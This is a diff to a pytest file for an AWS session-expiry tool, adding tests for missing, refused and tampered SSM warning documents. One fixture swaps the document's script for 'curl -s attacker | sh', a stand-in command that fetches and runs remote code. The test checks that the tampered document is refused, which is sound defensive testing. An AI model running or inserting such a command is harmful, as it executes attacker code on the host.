@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import json
 from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -13,20 +16,27 @@ from warden.expiry import ExpiryWarnings
 from warden.notifier import Notifier
 from warden.policy import PolicyError, load_policy
 from warden.policy.notices import MESSAGE_PATTERN, due_thresholds, notice_text, warning_times
+from warden_local.stack import load_template
 
+# The warning document as the stack creates it (what GetDocument returns, parsed).
+_THE_DOCUMENT: dict[str, Any] = load_template(Path(__file__).resolve().parents[2] / "template.yaml")["Resources"][
+    "WarningDocument"
+]["Properties"]["Content"]
 ANALYTICS = "i-0a1b2c3d4e5f60718"  # an instance id as EC2 makes them (SendCommand needs one)
 # 16:30 UTC = 17:30 Berlin: alice's rule allows her until business hours close at 18:00 Berlin.
 LATE = datetime(2026, 11, 24, 16, 30, tzinfo=UTC)
 
 
-def warned(world: World) -> FakeNotices:
+def warned(world: World, *, unavailable: str = "") -> FakeNotices:
+    """The sweeper warns through fake notices; with *unavailable*, it has no warning document (that is why)."""
     notices = FakeNotices()
     world.sweeper.warnings = ExpiryWarnings(
-        notices,
+        None if unavailable else notices,
         world.ledger,
         world.once,
         Notifier(world.alerts, world.once, None),
         AlertContext("session-warden", "eu-central-1"),
+        unavailable=unavailable,
     )
     return notices
 
@@ -115,20 +125,55 @@ def test_what_the_node_answered_is_noted_at_the_next_sweep() -> None:
     assert (record["status"], record["detail"], record["command"]) == ("failed", "the session has no terminal", "cmd-1")
 
 
-def test_a_refused_send_command_is_noted_and_the_alert_still_goes_out() -> None:
+@pytest.mark.parametrize(
+    ("failure", "detail"),
+    [
+        (("InvalidInstanceId", "Instances not in a valid state for account"), "SendCommand refused: ClientError:"),
+        # A member account whose stack predates the warning document: named, with what brings it.
+        (
+            ("InvalidDocument", "Document session-warden-session-notice-1 does not exist"),
+            "the warning document does not exist in this account and region (in organization mode: a member stack "
+            "from before warnings; `warden org deploy` updates it) (ClientError:",
+        ),
+    ],
+)
+def test_a_refused_send_command_is_noted_and_the_alert_still_goes_out(failure: tuple[str, str], detail: str) -> None:
     world = World()
     notices = warned(world)
-    notices.failures = 1
+    notices.failures, notices.failure = 1, failure
     session = started_late(world)
     sweep_until(world, LATE + timedelta(minutes=20))
     row = world.ledger.get(session)
     assert row is not None
     record = row.warnings["10m before 2026-11-24T17:00:00Z"]
     assert record["status"] == "failed"
-    assert record["detail"].startswith("SendCommand refused: ClientError:")
+    assert record["detail"].startswith(detail)
     (alert,) = world.alerts.sent
     assert alert.kind == "session-expiring"
-    assert "  - 10m before: not sent (SendCommand refused: ClientError:" in alert.body
+    assert f"  - 10m before: not sent ({detail}" in alert.body
+
+
+def test_where_there_is_no_warning_document_the_alert_goes_out_and_the_ledger_says_why_no_notice() -> None:
+    # GIVEN a scope with no warning document to send
+    world = World()
+    warned(world, unavailable="the function has no warning document (WARDEN_WARNING_DOCUMENT is not set)")
+    session = started_late(world)
+    # WHEN each threshold passes
+    sweep_until(world, LATE + timedelta(minutes=29))
+    # THEN each warning is noted as not sent, with the reason; one alert says so
+    row = world.ledger.get(session)
+    assert row is not None
+    assert {key: (record["status"], record["detail"]) for key, record in row.warnings.items()} == {
+        f"{label} before 2026-11-24T17:00:00Z": (
+            "not sent",
+            "the function has no warning document (WARDEN_WARNING_DOCUMENT is not set)",
+        )
+        for label in ("10m", "2m")
+    }
+    (alert,) = world.alerts.sent
+    assert alert.kind == "session-expiring"
+    assert "  - 10m before: not sent (the function has no warning document (WARDEN_WARNING_DOCUMENT" in alert.body
+    assert "  Ends at:  18:00 Europe/Berlin" in alert.body
 
 
 def test_an_ecs_task_gets_no_command_the_ledger_says_why_and_the_alert_goes_out() -> None:
@@ -198,11 +243,16 @@ def test_the_notice_keeps_to_the_documents_characters_whatever_the_policy_names(
 
 
 class _Ssm:
-    """SSM's answers to SendCommand and GetCommandInvocation, as boto3 returns them."""
+    """SSM's answers to GetDocument, SendCommand and GetCommandInvocation, as boto3 returns them."""
 
-    def __init__(self, invocation: dict[str, object] | Exception) -> None:
+    def __init__(self, invocation: dict[str, object] | Exception, document: object = None) -> None:
         self.invocation = invocation
+        self.document = _THE_DOCUMENT if document is None else document
         self.sent: list[dict[str, object]] = []
+
+    def get_document(self, **request: object) -> dict[str, object]:
+        assert (request["DocumentVersion"], request["DocumentFormat"]) == ("1", "JSON")
+        return {"Name": request["Name"], "Content": json.dumps(self.document), "DocumentFormat": "JSON"}
 
     def send_command(self, **request: object) -> dict[str, object]:
         self.sent.append(request)
@@ -224,6 +274,38 @@ def test_send_command_names_the_stacks_document_the_node_and_both_parameters() -
     assert request["DocumentName"] == "session-warden-WarningDocument-abc"
     assert request["InstanceIds"] == ["i-0a1b2c3d4e5f60718"]
     assert request["Parameters"] == {"SessionId": ["alice-0f1e2d3c4b5a69788"], "Message": ["ends at 18:00"]}
+
+
+def test_a_warning_document_replaced_under_its_name_is_not_run_and_the_ledger_says_so() -> None:
+    from warden.adapters.notices import SsmSessionNotices
+
+    # GIVEN the document deleted and another created under its name, running something else
+    content = dict(_THE_DOCUMENT)
+    (step,) = content["mainSteps"]
+    content["mainSteps"] = [{**step, "inputs": {"runCommand": ["#!/bin/sh\ncurl -s attacker | sh"]}}]
+    ssm = _Ssm({}, content)
+    world = World()
+    world.sweeper.warnings = ExpiryWarnings(
+        SsmSessionNotices(ssm, "session-warden-session-notice-1"),  # type: ignore[arg-type]
+        world.ledger,
+        world.once,
+        Notifier(world.alerts, world.once, None),
+        AlertContext("session-warden", "eu-central-1"),
+    )
+    session = started_late(world)
+    # WHEN the 10-minute warning is due
+    sweep_until(world, LATE + timedelta(minutes=20))
+    # THEN SSM is asked to run nothing; the ledger and the alert say why
+    assert ssm.sent == []
+    row = world.ledger.get(session)
+    assert row is not None
+    record = row.warnings["10m before 2026-11-24T17:00:00Z"]
+    assert record["status"] == "not sent"
+    assert record["detail"] == (
+        "warning document session-warden-session-notice-1 version 1: its script is not "
+        "functions/sweeper/session_notice.sh of this version: not run (someone replaced it; deploy the stack again)"
+    )
+    assert "not run (someone replaced it" in world.alerts.sent[0].body
 
 
 @pytest.mark.parametrize(
